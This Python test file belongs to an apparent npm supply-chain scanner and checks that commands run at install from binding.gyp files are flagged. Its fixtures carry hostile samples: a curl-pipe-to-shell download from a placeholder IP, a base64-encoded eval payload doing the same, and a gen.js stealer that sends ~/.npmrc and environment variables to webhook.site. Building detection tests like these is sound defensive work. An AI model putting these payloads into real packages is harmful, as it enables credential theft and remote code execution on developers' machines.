"""binding.gyp: the commands node-gyp runs at install are judged like install scripts."""

from __future__ import annotations

import base64

from chainwatch.packages import gyp
from chainwatch.packages import signals as sg
from tests.packages.helpers import facts_of, npm_tgz, verdict

ADDON = "#include <node_api.h>\n"
HONEST_GYP = """{
  "variables": {
    "NODE_VERSION%": "<!(node -p \\"process.versions.node.split(\\\\\\".\\\\\\")[0]\\")"
  },
  'targets': [{
    'target_name': 'addon',
    'sources': ['src/addon.cc'],
    'include_dirs': ["<!(node -p \\"require('node-addon-api').include\\")"],
    'libraries': ['<!@(pkg-config libpng --libs)'],
    'actions': [{
      'action_name': 'gen',
      'inputs': ['tools/gen.js'], 'outputs': ['src/gen.h'],
      'action': ['node', 'tools/gen.js', '<@(_outputs)'],
    }],
  }]
}
"""
GEN_JS = "const fs = require('fs');\nfs.writeFileSync(process.argv[2], '#define GENERATED 1\\n');\n"


def _addon(gyp_text: str, extra: dict[str, str] | None = None) -> bytes:
    return npm_tgz("png-addon", "2.1.0", {"binding.gyp": gyp_text, "src/addon.cc": ADDON, "tools/gen.js": GEN_JS,
                                          "index.js": "module.exports = require('./build/Release/addon.node');\n",
                                          **(extra or {})})


def test_commands_are_read_from_expansions_and_actions() -> None:
    found = [cmd for _line, cmd in gyp.commands(HONEST_GYP)]
    assert found == ['node -p "process.versions.node.split(\\".\\")[0]"',
                     "node -p \"require('node-addon-api').include\"", "pkg-config libpng --libs",
                     "node tools/gen.js <@(_outputs)"]
    assert gyp.inline_code(found[1]) == [("javascript", "require('node-addon-api').include")]


def test_honest_addon_stays_clean() -> None:
    result, top = verdict(_addon(HONEST_GYP))
    assert result == "clean", top


def test_download_and_run_in_an_expansion() -> None:
    evil = HONEST_GYP.replace("<!@(pkg-config libpng --libs)", "<!@(curl -s http://203.0.113.7/p.sh | sh)")
    facts = facts_of(_addon(evil))
    hits = [s for s in facts.signals if s.file == "binding.gyp" and s.kind == sg.PROCESS_DOWNLOADER]
    assert hits and hits[0].phase == sg.INSTALL and hits[0].line == 9
    result, top = verdict(_addon(evil))
    assert result == "malicious", top


def test_encoded_payload_in_inline_node_code() -> None:
    payload = base64.b64encode(b"require('child_process').execSync('curl -s http://203.0.113.7/x | sh')").decode()
    code = f"eval(Buffer.from('{payload}', 'base64').toString())"
    evil = HONEST_GYP.replace("<!@(pkg-config libpng --libs)", f'<!(node -e \\"{code}\\")')
    result, top = verdict(_addon(evil))
    assert result == "malicious", top


def test_action_script_runs_at_install() -> None:
    stealer = ("const fs = require('fs'), os = require('os'), https = require('https');\n"
               "const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
               "const req = https.request({hostname: 'webhook.site', path: '/3b1c', method: 'POST'});\n"
               "req.write(JSON.stringify({npmrc, env: process.env})); req.end();\n")
    data = _addon(HONEST_GYP, {"tools/gen.js": stealer})
    result, top = verdict(data)
    assert result == "malicious", top
    assert {s.phase for s in facts_of(data).signals if s.file == "tools/gen.js"} == {sg.INSTALL}
    not_run = _addon(HONEST_GYP.replace("'action': ['node', 'tools/gen.js', '<@(_outputs)'],", ""),
                     {"tools/gen.js": stealer})
    assert sg.INSTALL not in {s.phase for s in facts_of(not_run).signals if s.file == "tools/gen.js"}
